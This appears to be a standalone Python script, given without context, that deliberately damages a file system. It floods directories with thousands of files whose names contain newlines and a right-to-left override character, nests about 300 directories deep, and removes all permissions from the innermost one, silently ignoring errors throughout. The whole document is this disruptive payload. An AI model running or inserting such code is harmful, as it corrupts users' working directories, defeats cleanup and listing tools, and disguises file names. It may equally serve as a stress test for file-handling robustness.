import os

for _k in range(3000):
    try:
        os.makedirs(f"d{_k % 7}/" + "x" * 200, exist_ok=True)
        open(f"d{_k % 7}/\n\u202e{_k}", "w").write("x" * 1000)
    except OSError as _e:
        pass
_d = "."
for _ in range(300):
    try:
        os.mkdir("p")
        os.chdir("p")
    except OSError:
        break
os.chmod(".", 0)
